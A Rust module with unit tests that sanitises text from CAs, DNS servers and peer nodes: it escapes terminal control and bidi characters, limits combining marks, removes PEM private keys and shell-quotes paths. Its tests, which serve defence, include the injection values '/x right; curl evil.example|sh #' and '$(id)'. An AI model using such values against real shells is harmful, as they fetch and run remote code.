//! What a CA, an API, a DNS server or a node sends is shown, never obeyed: whatever moves a cursor, hides a word or turns
//! a line around becomes a visible escape, and a private key that somebody put there does not come in at all.

use icu_properties::props::{DefaultIgnorableCodePoint, GeneralCategory};
use icu_properties::{CodePointMapData, CodePointSetData};

use crate::text::redact;

/// Combining marks on one character. Vietnamese has two and pointed Hebrew four; a hundred paint over the lines around.
const MARKS: usize = 4;

/// The text with every control, format, private and unassigned character escaped and without private keys, cut where
/// `most` characters are shown. Letters of every script stay as they are.
pub fn escape(text: &str, most: usize) -> String {
    let text = redact::without_pem(text);
    let (mut shown, mut length) = (String::new(), 0);
    // A leading mark would attach to the text before it.
    let mut room = 0;
    for c in text.chars() {
        let is_mark = matches!(category(c), GeneralCategory::NonspacingMark | GeneralCategory::EnclosingMark);
        let is_hidden = is_invisible(c) || (is_mark && room == 0);
        let width = if is_hidden && !matches!(c, '\n' | '\r' | '\t') { c.escape_unicode().count() } else { 1 };
        length += width;
        if length > most {
            shown.push('…');
            break;
        }
        match c {
            '\n' | '\r' | '\t' => shown.extend(c.escape_default()),
            _ if is_hidden => shown.extend(c.escape_unicode()),
            _ => shown.push(c),
        }
        room = match (is_hidden, is_mark) {
            (true, _) => 0,
            (false, true) => room - 1,
            (false, false) => MARKS,
        };
    }
    shown
}

/// A path from a node, escaped, for a command that a person may copy: always one word to a shell, so that the node cannot
/// add another.
pub fn as_word(path: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "/._-+:@".contains(c);
    if !path.is_empty() && path.chars().all(plain) {
        path.to_owned()
    } else {
        format!("'{}'", path.replace('\'', "'\\''"))
    }
}

/// By what Unicode says of it, not by a list of cases: what is a format character tomorrow is escaped tomorrow.
fn is_invisible(c: char) -> bool {
    matches!(
        category(c),
        GeneralCategory::Control
            | GeneralCategory::Format
            | GeneralCategory::LineSeparator
            | GeneralCategory::ParagraphSeparator
            | GeneralCategory::PrivateUse
            | GeneralCategory::Surrogate
            | GeneralCategory::Unassigned
    ) || CodePointSetData::new::<DefaultIgnorableCodePoint>().contains(c)
}

fn category(c: char) -> GeneralCategory {
    // The question for most of what is shown, without a table.
    if c.is_ascii() && !c.is_ascii_control() {
        return GeneralCategory::OtherSymbol;
    }
    CodePointMapData::<GeneralCategory>::new().get(c)
}

#[cfg(test)]
mod tests {
    use super::{as_word, escape};

    #[test]
    fn what_a_peer_sends_cannot_move_the_cursor() {
        assert_eq!(escape("a\x1b[2Jb\nc\u{202e}d", 100), "a\\u{1b}[2Jb\\nc\\u{202e}d");
    }

    #[test]
    fn a_long_text_is_cut_and_says_so_and_escapes_count_with_all_their_characters() {
        assert_eq!(escape("上海上海", 2), "上海…");
        assert!(escape(&"\u{e0001}".repeat(1000), 1000).chars().count() <= 1001);
        assert_eq!(escape("\n\n\n", 3), "\\n\\n\\n");
    }

    #[test]
    fn a_path_that_a_node_names_says_nothing_but_a_path() {
        for path in ["/etc/ssl/privkey.pem", "/etc/证书/a_b-c.pem"] {
            assert_eq!(as_word(path), path);
        }
        assert_eq!(as_word("/x right; curl evil.example|sh #"), "'/x right; curl evil.example|sh #'");
        assert_eq!(as_word("/it's $(id)"), "'/it'\\''s $(id)'");
        assert_eq!(as_word(""), "''");
    }

    #[test]
    fn every_invisible_character_is_shown_as_its_number() {
        for c in [
            '\u{7f}',
            '\u{85}',
            '\u{ad}',
            '\u{34f}',
            '\u{600}',
            '\u{61c}',
            '\u{70f}',
            '\u{115f}',
            '\u{17b4}',
            '\u{180b}',
            '\u{180e}',
            '\u{200b}',
            '\u{200f}',
            '\u{2028}',
            '\u{2029}',
            '\u{202a}',
            '\u{2060}',
            '\u{2064}',
            '\u{2065}',
            '\u{206a}',
            '\u{206f}',
            '\u{3164}',
            '\u{e000}',
            '\u{fdd0}',
            '\u{fe00}',
            '\u{fe0f}',
            '\u{feff}',
            '\u{ffa0}',
            '\u{fff0}',
            '\u{fff9}',
            '\u{fffb}',
            '\u{fffe}',
            '\u{110bd}',
            '\u{1bca0}',
            '\u{1d173}',
            '\u{e0001}',
            '\u{e0020}',
            '\u{e007f}',
            '\u{e0100}',
            '\u{f0000}',
            '\u{10ffff}',
        ] {
            assert_eq!(escape(&format!("a{c}b"), 100), format!("a{}b", c.escape_unicode()), "{}", c.escape_unicode());
        }
    }

    #[test]
    fn names_in_any_script_stay_readable() {
        for name in [
            "上海",
            "深圳-1",
            "Zürich",
            "tiếng Việt",
            "Zu\u{308}rich",
            "Київ",
            "दिल्ली",
            "กรุงเทพ",
            "שָׁלוֹם",
            "القاهرة",
            "東京🗼",
        ] {
            assert_eq!(escape(name, 100), name);
        }
    }

    #[test]
    fn a_pile_of_combining_marks_does_not_paint_over_other_lines() {
        let piled = escape(&format!("a{}", "\u{301}".repeat(100)), 10_000);
        assert_eq!(piled.matches('\u{301}').count(), super::MARKS);
        assert!(escape("\u{489}a", 100).starts_with("\\u{489}"), "nor on what stands before the text");
    }

    #[test]
    fn a_private_key_from_any_peer_is_not_shown() {
        let key = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBase64\n-----END EC PRIVATE KEY-----";
        assert_eq!(escape(&format!("see:\n{key}\nend"), 1000), "see:\\n[private key removed]\\nend");
    }
}
